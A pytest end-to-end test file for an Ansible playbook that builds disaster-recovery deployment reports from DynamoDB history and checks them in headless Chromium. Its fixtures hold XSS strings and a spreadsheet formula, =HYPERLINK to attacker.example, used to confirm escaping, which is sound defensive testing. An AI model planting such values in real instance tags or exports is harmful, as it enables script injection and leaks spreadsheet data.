"""playbooks/report.yml end to end: deployment history in the lab's DynamoDB, the report written with
ansible-playbook, then opened in headless Chromium (Debian's package, `make browser`).

The history is put into the lab with boto3: the items of each run are laid out by the collection's own
``history.build_items`` (one item per source account per run, as the deploy role and drs_history_record write
them) from instance statuses chosen so that the success rates sit exactly on the colour bands' boundaries, and
one run is left ``in_progress`` with a lease that ran out hours ago, as a run killed without recording its end
leaves it. Two runs verified replication (the later one also extended servers into a target account), and
three drills are recorded as the drill action writes them. The report reads the history back through
drs_history_info, the drills too.
"""

import base64
import csv
import hashlib
import json
import re
import shutil
import subprocess
import sys
import uuid
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from fractions import Fraction
from html.parser import HTMLParser

import pytest

from tests.e2e.conftest import collection_environment, run_playbook
from tests.lab_fixture import REPO_ROOT

# The collection, importable the way ansible-playbook finds it, for the code that lays out history items.
sys.path.insert(0, collection_environment()["ANSIBLE_COLLECTIONS_PATH"].split(":", 1)[0])
from ansible_collections.drs_orchestration.agent_deployer.plugins.module_utils import history  # noqa: E402
from ansible_collections.drs_orchestration.agent_deployer.plugins.module_utils import outcomes  # noqa: E402

PLAYBOOK = REPO_ROOT / "playbooks" / "report.yml"
CHROMIUM_TIMEOUT = 120
FAILURE_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name", "wave",
                   "priority", "ssm_status", "error_category", "error_message", "remediation"]
UNPROTECTED_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name",
                       "wave", "priority", "status", "error_category", "reason", "remediation"]
REPLICATION_COLUMNS = ["deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name",
                       "wave", "verdict", "replication_state", "error", "error_category", "lag_seconds", "reason",
                       "remediation"]
DRILL_COLUMNS = ["drill_id", "status", "started_at", "finished_at", "wave", "servers", "launched", "failed",
                 "timed_out", "stopped", "not_protected", "jobs", "recovery_seconds", "rto_seconds", "over_rto"]
REPORT_FILES = ("report.html", "deployments.json", "failures.csv", "unprotected.csv", "replication.csv", "drills.csv")
HOSTILE_NAME = '<img src=x onerror="console.error(\'xss-name\')">, "db"'
HOSTILE_MESSAGE = '<script>console.error("xss-message")</script> exit 1,\nsee "agent.log"'
# An instance name (a tag anyone with ec2:CreateTags can set) that a spreadsheet would run as a formula.
FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
STAGING = "333333333333"
PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH, LEDGER, VAULT = (
    "111111111111", "222222222222", "444444444444", "555555555555", "666666666666", "777777777777", "888888888888",
    "999999999999")
TARGET = "101010101010"
NAMES = {PROD: "Production, EU", SHARED: "Shared services", RETAIL: "Retail <script>", SANDBOX: "Sandbox",
         ANALYTICS: "Analytics", BATCH: "Batch", LEDGER: "Ledger", VAULT: 'Vault "<b>"'}
AGENT_REMEDIATION = "Check the agent's installation log on the instance, then run the deployment again."


def _iso(moment):
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def _time(text):
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


class _Instances:
    """Instances of one run with the details the deploy role records for each status."""

    def __init__(self):
        self.entries = []

    def add(self, account_id, status, number=1, wave=1, name=None, reason=None, category="agent_install",
            replication=None):
        for _count in range(number):
            serial = len(self.entries)
            entry = {"instance_id": f"i-{account_id[:4]}{serial:013x}", "account_id": account_id,
                     "region": "us-east-1" if serial % 2 else "us-west-2", "wave": wave, "priority": "high",
                     "name": name or f"server-{serial}", "status": status}
            if outcomes.is_failure(status):
                entry.update(ssm_status="Success" if status == outcomes.NOT_REGISTERED_AFTER_SUCCESS else "Failed",
                             error_category=category, command_id=f"cmd-{serial:08d}", reason=reason or "exit code 1",
                             remediation=AGENT_REMEDIATION)
            elif not outcomes.is_protected(status):
                entry.update(reason=reason or f"{status.replace('_', ' ')} (instance {serial})",
                             remediation=outcomes.status_remediation(status))
            if replication:
                entry["replication"] = dict({"reason": f"{replication['verdict']} (instance {serial})",
                                             "replication_state": None, "error": None, "error_category": None,
                                             "remediation": None, "lag_seconds": None}, **replication)
            self.entries.append(entry)
        return self


def _run(started, instances, accounts, final=True, stopped=False, written_at=None, **record):
    """The items of one run, laid out by history.build_items; ``written_at`` is when they were last written
    (for a run still in progress, its lease runs 15 minutes from then)."""
    finished = started + timedelta(minutes=20) if final else None
    waves = sorted({entry["wave"] for entry in instances.entries if entry["wave"] is not None
                    and entry["status"] != outcomes.NOT_STARTED})
    record = dict({
        "deployment_id": str(uuid.uuid4()), "run_id": uuid.uuid4().hex, "pattern": None,
        "started_at": started, "finished_at": finished, "final": final, "stopped": stopped,
        "stop_reason": None, "stopped_after_wave": None,
        "accounts": [{"account_id": account_id, "name": NAMES[account_id], "staging_account_id": STAGING,
                      "regions": ["us-east-1", "us-west-2"]} for account_id in accounts],
        "instances": instances.entries,
        "waves": [{"wave": wave, "started_at": started + timedelta(minutes=wave),
                   "finished_at": started + timedelta(minutes=wave + 1)} for wave in waves],
        "unreachable": [], "extension": None,
        "in_flight": [{key: entry.get(key) for key in ("instance_id", "command_id", "account_id", "region", "wave")}
                      for entry in instances.entries if entry["status"] == outcomes.IN_FLIGHT],
    }, **record)
    return history.build_items(record, NAMES, written_at or finished, ttl_days=90)


def _history(now):
    """Runs of the last hours (accounts at 95% and 80% exactly, below, and with nothing attempted; one stopped,
    one still going, one killed hours ago without recording its end) and one of three days ago, which the
    default period (the last 24 hours) leaves out. Returns the items of each run by name."""
    retail = (_Instances().add(RETAIL, "installed", 15).add(RETAIL, "failed", 4)
              .add(RETAIL, "failed", wave=2, name=HOSTILE_NAME, reason=HOSTILE_MESSAGE, category="network")
              .add(RETAIL, "skipped_ssm_offline"))
    multi = (_Instances()
             # PROD: 10 of 10 before, 9 of 10 here: 19 of 20 is 95%, green
             .add(PROD, "installed", 8).add(PROD, "already_registered")
             .add(PROD, "failed", wave=2, reason='failed, "quoted"')
             # SHARED: 8 of 10 is 80%, yellow; the skipped, unsettled and unplanned instances are not attempted
             .add(SHARED, "installed", 7).add(SHARED, "already_registered")
             .add(SHARED, "not_registered_after_success", category="not_registered")
             .add(SHARED, "timed_out", wave=2, category="ssm_timeout").add(SHARED, "skipped_ssm_offline")
             .add(SHARED, "skipped_not_managed").add(SHARED, "in_flight", wave=2)
             .add(SHARED, "not_started", 2, wave=3).add(SHARED, "no_wave", wave=None, name=FORMULA_NAME))
    # SANDBOX: nothing attempted, more skipped instances than an item holds
    sandbox = _Instances().add(SANDBOX, "skipped_not_managed", history.MAX_UNPROTECTED + 5)
    # ANALYTICS: killed 4 hours ago, its item still in progress, written 5 minutes after it started: 2 of 3, red
    killed_at = now - timedelta(hours=4)
    analytics = _Instances().add(ANALYTICS, "installed", 2).add(ANALYTICS, "failed")
    running_since = now - timedelta(minutes=30)
    # LEDGER's replication as an older run found it, then as the later run (which VAULT shared) found it
    ledger_before = (_Instances().add(LEDGER, "installed", 2, replication={"verdict": "healthy", "lag_seconds": 3.0})
                     .add(LEDGER, "installed", replication={"verdict": "stalled", "replication_state": "STALLED",
                                                            "error": "UNSTABLE_NETWORK", "error_category": "network"}))
    verified = (_Instances()
                .add(LEDGER, "installed", 2, replication={"verdict": "healthy", "lag_seconds": 2.0})
                .add(LEDGER, "installed", replication={"verdict": "syncing", "replication_state": "CONTINUOUS",
                                                       "lag_seconds": 905.5})
                .add(LEDGER, "installed", wave=2, replication={
                    "verdict": "stalled", "replication_state": "STALLED", "error": "FAILED_TO_PAIR_REPLICATION_SERVER",
                    "error_category": "network", "remediation": "Open TCP 1500 from the source to the staging subnet."})
                .add(LEDGER, "failed", wave=2, category="network")
                .add(VAULT, "installed", 2, replication={"verdict": "healthy", "lag_seconds": 1.0})
                .add(VAULT, "installed", wave=2, name=HOSTILE_NAME, replication={
                    "verdict": "syncing", "replication_state": "CONTINUOUS", "lag_seconds": 4210.0,
                    "reason": HOSTILE_MESSAGE})
                .add(VAULT, "timed_out", wave=2, category="ssm_timeout"))
    extension = {"totals": {"extended": 5, "already_extended": 1, "failed": 1, "left_out": 1}, "runs": [
        {"wave": 1, "target_account_id": TARGET, "staging_account_id": STAGING, "region": "us-east-1", "requested": 6,
         "extended": 3, "already_extended": 1, "failed": 1, "left_out": 1,
         "message": "1 server(s) could not be extended"},
        {"wave": 2, "target_account_id": TARGET, "staging_account_id": STAGING, "region": "us-east-1", "requested": 2,
         "extended": 2, "already_extended": 0, "failed": 0, "left_out": 0}]}
    return {
        "single": _run(now - timedelta(hours=20), _Instances().add(PROD, "installed", 10), [PROD]),
        "multi": _run(now - timedelta(hours=3), multi, [PROD, SHARED], stopped=True, stopped_after_wave=2,
                      stop_reason="Interrupted by SIGTERM: the installs still running are recorded as in flight"),
        "retail": _run(now - timedelta(hours=1), retail, [RETAIL]),
        "sandbox": _run(now - timedelta(hours=2), sandbox, [SANDBOX]),
        "interrupted": _run(killed_at, analytics, [ANALYTICS], final=False, written_at=killed_at + timedelta(minutes=5)),
        # BATCH: still going, its lease renewed just now
        "running": _run(running_since, _Instances().add(BATCH, "installed", 4), [BATCH], final=False, written_at=now),
        "old": _run(now - timedelta(days=3), _Instances().add(PROD, "failed", 5), [PROD]),
        "ledger_before": _run(now - timedelta(hours=10), ledger_before, [LEDGER]),
        "verified": _run(now - timedelta(hours=5), verified, [LEDGER, VAULT], extension=extension),
    }


def _drill_item(started, waves, status="finished"):
    """A drill as the drill action records it (plugins/plugin_utils/drill.py, Drill._record)."""
    drill_id = uuid.uuid4().hex
    finished = started + timedelta(minutes=45)
    shaped = [dict({"servers": 3, "launched": 3, "failed": 0, "timed_out": 0, "stopped": 0, "not_protected": 0,
                    "jobs": 1, "rto_seconds": 900, "over_rto": False}, **wave) for wave in waves]
    totals = {key: sum(wave[key] for wave in shaped)
              for key in ("servers", "launched", "failed", "timed_out", "stopped", "not_protected")}
    return {"deployment_id": f"drill#{drill_id}", "timestamp": history.iso(started), "record_type": "drill",
            "run_id": drill_id, "revision": 1, "started_at": history.iso(started), "finished_at": history.iso(finished),
            "updated_at": history.iso(finished), "status": status, "waves": shaped, "totals": totals,
            "ttl": int(finished.timestamp()) + 90 * 86400}


def _drills(now):
    """A drill of waves 1 and 2 (wave 2 over its RTO, one launch failed), a later one of wave 1 alone that was
    stopped, over its RTO, and one of three days ago, outside the default period."""
    return {
        "both": _drill_item(now - timedelta(hours=8), [
            {"wave": 1, "recovery_seconds": 640.0},
            {"wave": 2, "servers": 3, "launched": 2, "failed": 1, "recovery_seconds": 1250.5, "over_rto": True}]),
        "wave1": _drill_item(now - timedelta(hours=2), [
            {"wave": 1, "servers": 4, "launched": 4, "recovery_seconds": 980.0, "over_rto": True}], status="stopped"),
        "old": _drill_item(now - timedelta(days=3), [{"wave": 3, "recovery_seconds": 100.0}]),
    }


def _dynamo_value(value):
    if isinstance(value, dict):
        return {key: _dynamo_value(entry) for key, entry in value.items()}
    if isinstance(value, list):
        return [_dynamo_value(entry) for entry in value]
    if isinstance(value, float):
        return Decimal(str(value))
    return value


def _create_table(lab, name):
    """The table as roles/drs_history_table/files/history-table.yml declares it."""
    indexes = [("AccountIndex", "source_account_id"), ("StatusIndex", "status"), ("PatternIndex", "deployment_pattern")]
    lab.client("dynamodb").create_table(
        TableName=name, BillingMode="PAY_PER_REQUEST",
        AttributeDefinitions=[{"AttributeName": attribute, "AttributeType": "S"} for attribute in
                              ("deployment_id", "timestamp", "source_account_id", "status", "deployment_pattern")],
        KeySchema=[{"AttributeName": "deployment_id", "KeyType": "HASH"},
                   {"AttributeName": "timestamp", "KeyType": "RANGE"}],
        GlobalSecondaryIndexes=[{
            "IndexName": index, "Projection": {"ProjectionType": "ALL"},
            "KeySchema": [{"AttributeName": key, "KeyType": "HASH"}, {"AttributeName": "timestamp", "KeyType": "RANGE"}],
        } for index, key in indexes],
    )


@pytest.fixture(scope="module")
def history_runs(lab_factory):
    lab = lab_factory("demo")
    table_name = f"drs-report-{uuid.uuid4().hex[:8]}"
    _create_table(lab, table_name)
    now = datetime.now(timezone.utc)
    runs = _history(now)
    drills = _drills(now)
    table = lab.client("dynamodb")
    from boto3.dynamodb.types import TypeSerializer  # pylint: disable=import-outside-toplevel
    serializer = TypeSerializer()
    for items in [*runs.values(), list(drills.values())]:
        for item in items:
            table.put_item(TableName=table_name, Item={key: serializer.serialize(_dynamo_value(value))
                                                       for key, value in item.items()})
    return lab, table_name, runs, drills


def _report(history_fixture, output_dir, **filters):
    lab, table_name, _runs, _drills_recorded = history_fixture
    extra_vars = {"drs_report_table_name": table_name, "drs_report_output_dir": str(output_dir),
                  "drs_report_page_size": 2}
    extra_vars.update(filters)
    run = run_playbook(lab, PLAYBOOK, extra_vars)
    assert run.returncode == 0, run.stdout[-6000:] + run.stderr[-3000:]
    return run


def _chromium():
    for name in ("chromium", "chromium-browser"):
        found = shutil.which(name)
        if found:
            return found
    pytest.fail("no chromium binary: run `make browser` (it installs Debian's chromium package)")
    return None


def _open(page, tmp_path, *args, fragment=""):
    """Open ``page`` (with the URL ``fragment``, if any) in headless Chromium; returns its stdout and the console
    messages it logged."""
    command = [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
               "--enable-logging=stderr", "--v=0", f"--user-data-dir={tmp_path / 'chromium-profile'}", *args,
               page.as_uri() + (f"#{fragment}" if fragment else "")]
    completed = subprocess.run(command, capture_output=True, text=True, timeout=CHROMIUM_TIMEOUT, check=False)
    assert completed.returncode == 0, completed.stderr[-3000:]
    console = [line for line in completed.stderr.splitlines() if re.search(r":CONSOLE[:(\]]", line)]
    return completed.stdout, console


# Elements that have no end tag.
VOID_ELEMENTS = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class _Dom(HTMLParser):
    """The elements of a dumped DOM (tag and attributes), its text, and the text of each element."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.text = []
        self.closed = []  # (tag, attributes, text inside), in the order the elements end
        self._open = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID_ELEMENTS:
            self._open.append((tag, dict(attrs), []))

    def handle_endtag(self, tag):
        while self._open:
            open_tag, attrs, parts = self._open.pop()
            self.closed.append((open_tag, attrs, "".join(parts)))
            if open_tag == tag:
                break

    def handle_data(self, data):
        self.text.append(data)
        for _tag, _attrs, parts in self._open:
            parts.append(data)

    def with_class(self, name):
        return [attrs for _tag, attrs in self.elements if name in (attrs.get("class") or "").split()]

    def texts_with_class(self, name):
        """(attributes, text) of each element of class ``name``."""
        return [(attrs, text) for _tag, attrs, text in self.closed if name in (attrs.get("class") or "").split()]

    def texts_with_attribute(self, name):
        return [(attrs, text) for _tag, attrs, text in self.closed if name in attrs]


def _all_items(runs):
    return [item for items in runs.values() for item in items]


def _in_period(runs, since):
    return [item for item in _all_items(runs) if _time(item["started_at"]) >= _time(since)]


def _shown_status(runs, item):
    """The status the report must show: the interrupted run's items were written in progress, and their lease
    ran out hours ago."""
    if item in runs["interrupted"]:
        assert item["status"] == "in_progress" and _time(item["lease_until"]) < datetime.now(timezone.utc)
        return "interrupted"
    return item["status"]


def _expected_bands(items):
    """Account id -> (success rate, colour), from the items' counts per status with exact fractions."""
    sums = {}
    for item in items:
        protected, failed = sums.get(item["source_account_id"], (0, 0))
        for status, number in item["by_status"].items():
            protected += number if outcomes.group(status) == outcomes.PROTECTED else 0
            failed += number if outcomes.group(status) == outcomes.FAILURE else 0
        sums[item["source_account_id"]] = (protected, failed)
    bands = {}
    for account_id, (protected, failed) in sums.items():
        if not protected + failed:
            bands[account_id] = (None, "none")
            continue
        rate = Fraction(protected, protected + failed)
        bands[account_id] = (rate, "green" if rate >= Fraction(95, 100) else "yellow" if rate >= Fraction(80, 100)
                             else "red")
    return bands


def _csv_text(value):
    """A value as the report's CSV files must hold it: text a spreadsheet would run starts with an apostrophe."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _instance_rows(items, columns, failures_only=False):
    """The CSV rows the items' unprotected instances (or only the failed ones) must give."""
    rows = []
    for item in items:
        for instance in item["unprotected_instances"]:
            if failures_only and not outcomes.is_failure(instance["status"]):
                continue
            values = dict(instance, deployment_id=item["deployment_id"], started_at=item["started_at"],
                          account_id=item["source_account_id"], account_name=item["source_account_name"],
                          error_message=instance["reason"])
            rows.append({column: _csv_text(values.get(column)) for column in columns})
    return sorted(rows, key=_row_key)


def _row_key(row):
    return (row["deployment_id"], row["account_id"], row["instance_id"])


def _read_csv(path, columns):
    """The rows of a CSV export, after checking its header and its CRLF line ends."""
    raw = path.read_bytes()
    assert raw.startswith((",".join(columns) + "\r\n").encode())
    assert b"\n" not in raw.replace(b"\r\n", b"")  # line ends are CRLF; no newline inside a cell here
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        assert reader.fieldnames == columns
        return sorted(reader, key=_row_key)


def _people_time(text):
    return _time(text).strftime("%Y-%m-%d %H:%M:%S")


def test_chromium_reports_console_messages_to_the_check(tmp_path):
    """The console check is not blind: a page that logs an error, and one whose policy blocks an image, are caught."""
    page = tmp_path / "control.html"
    page.write_text("<!DOCTYPE html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
                    "'none'; script-src 'unsafe-inline'\"></head><body><script>console.error('control-marker')"
                    "</script><img src=\"https://example.invalid/x.png\"></body></html>", encoding="utf-8")
    _dom, console = _open(page, tmp_path, "--dump-dom")
    assert any("control-marker" in line for line in console), console
    assert any("Content Security Policy" in line for line in console), console


def test_the_report_of_the_last_24_hours_opens_cleanly_and_matches_the_table(history_runs, tmp_path):
    _lab, table_name, runs, _drills_recorded = history_runs
    output = tmp_path / "report"
    run = _report(history_runs, output)
    generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
    since = generated["filters"]["since"]
    until = generated["filters"]["until"]
    assert _time(until) - _time(since) == timedelta(hours=24)
    reported = _in_period(runs, since)
    assert len(reported) == len(_all_items(runs)) - len(runs["old"])  # the run of three days ago is left out
    shown = " ".join(run.task("drs_orchestration.agent_deployer.drs_report : Show where the report is")["msg"])
    for name in REPORT_FILES:
        assert f"{output.resolve()}/{name}" in shown, name

    # deployments.json: the table's items of the period, as drs_history_info shows them, the filters and when
    assert generated["filters"] == {"since": since, "until": until, "account_id": None, "deployment_pattern": None,
                                    "status": None, "table_name": table_name}
    assert generated["generated_at"] == until
    assert generated["count"] == len(reported)
    by_key = {(entry["deployment_id"], entry["timestamp"]): entry for entry in generated["deployments"]}
    assert set(by_key) == {(item["deployment_id"], item["timestamp"]) for item in reported}
    for item in reported:
        entry = by_key[(item["deployment_id"], item["timestamp"])]
        for field in ("source_account_id", "source_account_name", "deployment_pattern", "started_at", "by_status",
                      "attempted", "unprotected", "unprotected_instances", "unprotected_left_out",
                      "stopped_after_wave"):
            assert entry[field] == item[field], field
        assert entry["status"] == _shown_status(runs, item)
        assert entry["success_rate"] == pytest.approx(item["success_rate"])
    assert [entry["started_at"] for entry in generated["deployments"]] == \
        sorted(entry["started_at"] for entry in generated["deployments"])

    # failures.csv: one row per failed instance of the period; started_at is when the run started
    failure_rows = _read_csv(output / "failures.csv", FAILURE_COLUMNS)
    assert failure_rows == _instance_rows(reported, FAILURE_COLUMNS, failures_only=True)
    starts = {item["deployment_id"]: item["started_at"] for item in reported}
    for row in failure_rows:
        assert "#" not in row["started_at"] and _time(row["started_at"]) == _time(starts[row["deployment_id"]])
    assert {row["account_id"] for row in failure_rows} == {PROD, SHARED, RETAIL, ANALYTICS, LEDGER, VAULT}

    # unprotected.csv: one row per unprotected instance the items hold, whatever its status
    unprotected_rows = _read_csv(output / "unprotected.csv", UNPROTECTED_COLUMNS)
    assert unprotected_rows == _instance_rows(reported, UNPROTECTED_COLUMNS)
    assert {row["status"] for row in unprotected_rows} == set(outcomes.UNPROTECTED_STATUSES)
    [formula_row] = [row for row in unprotected_rows if row["status"] == "no_wave"]
    assert formula_row["name"] == "'" + FORMULA_NAME and formula_row["wave"] == ""
    [sandbox] = runs["sandbox"]
    assert sandbox["unprotected_left_out"] == 5
    assert sum(row["account_id"] == SANDBOX for row in unprotected_rows) == history.MAX_UNPROTECTED

    # report.html: self-contained, no console message (an error, a blocked script or asset) in Chromium
    page = output / "report.html"
    html = page.read_text(encoding="utf-8")
    source = _Dom(html)
    assert not [tag for tag, _attrs in source.elements if tag in ("link", "img", "iframe", "object")]
    assert not [attrs for _tag, attrs in source.elements if {"src", "href", "srcset"} & set(attrs)]
    # one inline script, which the Content Security Policy allows by its hash and nothing else may run
    assert [tag for tag, _attrs in source.elements if tag == "script"] == ["script"]
    script = html.split("<script>", 1)[1].split("</script>", 1)[0]
    digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
    [policy] = [attrs["content"] for _tag, attrs in source.elements
                if attrs.get("http-equiv") == "Content-Security-Policy"]
    directives = dict(directive.strip().split(" ", 1) for directive in policy.split(";"))
    assert directives["script-src"] == f"'sha256-{digest}'" and directives["default-src"] == "'none'"
    style = html.split("<style>", 1)[1].split("</style>", 1)[0]
    assert not re.search(r"url\(|@import|https?:", style, re.IGNORECASE)
    dom_text, console = _open(page, tmp_path, "--dump-dom")
    assert console == [], "\n".join(console)
    dom = _Dom(dom_text)
    text = "".join(dom.text)

    # each account's cell has the colour of the success rate computed from the items
    cells = {attrs["data-account-id"]: attrs for attrs in dom.with_class("account-cell")}
    expected = _expected_bands(reported)
    assert set(cells) == set(expected) == {PROD, SHARED, RETAIL, SANDBOX, ANALYTICS, BATCH, LEDGER, VAULT}
    for account_id, (rate, band) in expected.items():
        classes = cells[account_id]["class"].split()
        assert [name for name in classes if name.startswith("status-")] == [f"status-{band}"], (account_id, classes)
        shown_rate = cells[account_id]["data-success-rate"]
        assert (shown_rate == "") if rate is None else float(shown_rate) == pytest.approx(float(rate), abs=1e-4)
    assert {account_id: band for account_id, (_rate, band) in expected.items()} == {
        PROD: "green", SHARED: "yellow", RETAIL: "red", SANDBOX: "none", ANALYTICS: "red", BATCH: "green",
        LEDGER: "yellow", VAULT: "red"}

    # summary: the success rate over every instance, every deployment status counted
    stats = {attrs["data-stat"]: attrs for attrs in dom.with_class("stat")}
    protected = sum(item["by_status"]["installed"] + item["by_status"]["already_registered"] for item in reported)
    failed = sum(item["by_status"][status] for item in reported for status in outcomes.FAILED_STATUSES)
    assert float(stats["success_rate"]["data-success-rate"]) == pytest.approx(protected / (protected + failed), abs=1e-4)
    statuses = {attrs["data-deployment-status"]: words for attrs, words in dom.texts_with_attribute("data-deployment-status")}
    assert set(statuses) == {"in_progress", "success", "partial", "failed", "stopped", "interrupted"}
    for status, words in statuses.items():
        count = sum(_shown_status(runs, item) == status for item in reported)
        assert words.split() == [str(count), *status.split("_")], (status, words)
    assert all(statuses[status].split()[0] != "0" for status in ("in_progress", "stopped", "interrupted"))

    # failed instances grouped by account
    groups = [attrs["data-account-id"] for attrs in dom.with_class("failure-group")]
    assert groups == sorted({row["account_id"] for row in failure_rows})
    assert sorted(attrs["data-instance-id"] for attrs in dom.with_class("failure")) == \
        sorted(row["instance_id"] for row in failure_rows)

    # unprotected instances: each with its status, reason and remediation, and the instances an item left out
    rows = {(attrs["data-deployment-id"], attrs["data-instance-id"]): (attrs, words)
            for attrs, words in dom.texts_with_class("unprotected")}
    listed = {(item["deployment_id"], instance["instance_id"]): instance
              for item in reported for instance in item["unprotected_instances"]}
    assert set(rows) == set(listed)
    for key, instance in listed.items():
        attrs, words = rows[key]
        assert attrs["data-instance-status"] == instance["status"]
        assert instance["reason"] in words and instance["remediation"] in words, key
        assert instance["status"].replace("_", " ") in words
    assert [attrs["data-account-id"] for attrs in dom.with_class("unprotected-group")] == \
        sorted({item["source_account_id"] for item in reported if item["unprotected_instances"]})
    [(left_out, note)] = dom.texts_with_class("left-out")
    assert left_out["data-deployment-id"] == sandbox["deployment_id"] and left_out["data-left-out"] == "5"
    assert "5 more unprotected instances" in " ".join(note.split())

    # timeline: each run's start for people (never the table's sort key), its status, its duration once finished
    timeline = {(attrs["data-deployment-id"], attrs["data-account-id"]): (attrs, " ".join(words.split()))
                for attrs, words in dom.texts_with_class("deployment")}
    assert len(timeline) == len(reported)
    for item in reported:
        attrs, words = timeline[(item["deployment_id"], item["source_account_id"])]
        assert attrs["data-status"] == _shown_status(runs, item)
        assert _shown_status(runs, item).replace("_", " ") in words
        assert attrs["data-started-at"] == item["started_at"] and _people_time(item["started_at"]) in words
        if "finished_at" in item:
            assert _people_time(item["finished_at"]) in words and "20 min" in words
        else:
            assert "not finished" in words
        assert item["timestamp"] not in text
    for item in runs["multi"]:
        assert "stopped after wave 2" in timeline[(item["deployment_id"], item["source_account_id"])][1]

    # filters; untrusted text is shown as text, never run or parsed as markup
    assert "all accounts" in text and "all patterns" in text and "all statuses" in text
    assert since in text and until in text
    [hostile] = [instance for instance in runs["retail"][0]["unprotected_instances"] if instance["name"] == HOSTILE_NAME]
    assert HOSTILE_NAME in text and hostile["reason"] in text and "Retail <script>" in text
    assert "<script>" in hostile["reason"]
    assert not [tag for tag, _attrs in dom.elements if tag == "img"]
    assert [tag for tag, _attrs in dom.elements if tag == "script"] == ["script"]
    assert AGENT_REMEDIATION in text

    # a screenshot next to the report, for people to look at
    screenshot = output / "report.png"
    _stdout, console = _open(page, tmp_path, f"--screenshot={screenshot}", "--window-size=1280,2000",
                             "--hide-scrollbars")
    assert console == [], "\n".join(console)
    assert screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and screenshot.stat().st_size > 20_000


@pytest.mark.parametrize("status, run_name", [("interrupted", "interrupted"), ("in_progress", "running"),
                                              ("stopped", "multi")])
def test_runs_that_did_not_end_normally_show_as_such_and_can_be_selected(history_runs, tmp_path, status, run_name):
    """A run killed without recording its end (its item in progress, its lease run out) shows as interrupted;
    one still going as in progress; one stopped by a signal as stopped."""
    _lab, _table_name, runs, _drills_recorded = history_runs
    output = tmp_path / status
    since = (datetime.now(timezone.utc) - timedelta(days=4)).strftime("%Y-%m-%dT%H:%M:%SZ")
    _report(history_runs, output, drs_report_since=since, drs_report_status=status)
    generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
    expected = runs[run_name]
    assert sorted((entry["deployment_id"], entry["source_account_id"]) for entry in generated["deployments"]) == \
        sorted((item["deployment_id"], item["source_account_id"]) for item in expected)
    assert {entry["status"] for entry in generated["deployments"]} == {status}
    if status == "interrupted":
        assert {entry["recorded_status"] for entry in generated["deployments"]} == {"in_progress"}

    dom_text, console = _open(output / "report.html", tmp_path, "--dump-dom")
    assert console == [], "\n".join(console)
    dom = _Dom(dom_text)
    rows = dom.texts_with_class("deployment")
    assert [attrs["data-status"] for attrs, _words in rows] == [status] * len(expected)
    label = status.replace("_", " ")
    assert all(label in words for _attrs, words in rows)
    badges = [words for _attrs, words in dom.texts_with_class("badge")]
    assert badges == [label] * len(expected)
    statuses = {attrs["data-deployment-status"]: words for attrs, words in dom.texts_with_attribute("data-deployment-status")}
    assert statuses[status].split()[0] == str(len(expected))
    [(_attrs, shown_filter)] = [(attrs, words) for attrs, words in dom.texts_with_attribute("data-filter")
                                if attrs["data-filter"] == "status"]
    assert shown_filter == status


def test_filters_select_the_deployments_and_are_shown(history_runs, tmp_path):
    _lab, _table_name, runs, _drills_recorded = history_runs
    output = tmp_path / "filtered"
    since = (datetime.now(timezone.utc) - timedelta(days=4)).strftime("%Y-%m-%dT%H:%M:%SZ")
    _report(history_runs, output, drs_report_since=since, drs_report_account_id=PROD, drs_report_status="failed")
    generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
    expected = [item for item in _all_items(runs) if item["source_account_id"] == PROD and item["status"] == "failed"]
    assert expected == runs["old"]  # the run of three days ago
    assert [entry["deployment_id"] for entry in generated["deployments"]] == [expected[0]["deployment_id"]]
    assert generated["filters"]["account_id"] == PROD and generated["filters"]["status"] == "failed"
    assert generated["filters"]["since"] == since
    rows = _read_csv(output / "failures.csv", FAILURE_COLUMNS)
    assert rows == _instance_rows(expected, FAILURE_COLUMNS, failures_only=True) and len(rows) == 5
    assert _read_csv(output / "unprotected.csv", UNPROTECTED_COLUMNS) == _instance_rows(expected, UNPROTECTED_COLUMNS)

    dom_text, console = _open(output / "report.html", tmp_path, "--dump-dom")
    assert console == [], "\n".join(console)
    dom = _Dom(dom_text)
    cells = dom.with_class("account-cell")
    assert [(cell["data-account-id"], cell["data-band"]) for cell in cells] == [(PROD, "red")]
    text = "".join(dom.text)
    assert PROD in text and "failed" in text and since in text
    assert "all accounts" not in text and "all statuses" not in text and "all patterns" in text


def test_an_empty_period_gives_an_empty_report(history_runs, tmp_path):
    output = tmp_path / "empty"
    _report(history_runs, output, drs_report_since="2020-01-01T00:00:00Z", drs_report_until="2020-01-02T00:00:00Z")
    generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
    assert generated["deployments"] == [] and generated["count"] == 0
    assert (output / "failures.csv").read_text(encoding="utf-8").splitlines() == [",".join(FAILURE_COLUMNS)]
    assert (output / "unprotected.csv").read_text(encoding="utf-8").splitlines() == [",".join(UNPROTECTED_COLUMNS)]
    html = (output / "report.html").read_text(encoding="utf-8")
    body = html.split("</style>", 1)[1]
    assert "No deployment in this period." in html and "account-cell" not in body and 'class="unprotected"' not in body


# --- the estate's DR posture: waves, categories, extension, replication, drills, trend; filters in the page ---

def _latest_verified(items):
    """Each account's latest item that verified replication."""
    latest = {}
    for item in sorted(items, key=lambda item: item["started_at"]):
        if item.get("replication"):
            latest[item["source_account_id"]] = item
    return latest


